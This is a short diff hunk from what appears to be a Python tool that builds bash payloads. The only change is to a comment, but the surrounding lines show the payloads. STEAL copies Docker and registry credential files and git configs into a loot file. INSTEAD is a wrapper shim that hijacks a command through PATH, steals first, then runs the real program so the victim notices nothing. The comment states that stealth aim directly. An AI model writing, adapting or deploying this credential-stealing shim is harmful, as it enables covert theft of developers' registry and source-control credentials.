@@ -65,7 +65,7 @@ STEAL = f"""#!/bin/bash
   /bin/cat "$HOME/.docker/config.json" "$DOCKER_CONFIG/config.json" "$REGISTRY_AUTH_FILE" "$HOME/.gitconfig" .git/config
 }}}} >> {{LOOT}} 2>/dev/null
 """
-# A program in place of another one steals first, and then does what is asked, so that nobody sees it.
+# A program in place of another one steals first, and then does what it should, so that nobody sees it.
 INSTEAD = STEAL + """
 PATH=$(echo "$PATH" | /usr/bin/tr : "\\n" | /bin/grep -v "^{folder}" | /usr/bin/paste -sd :)
 exec NAME "$@"
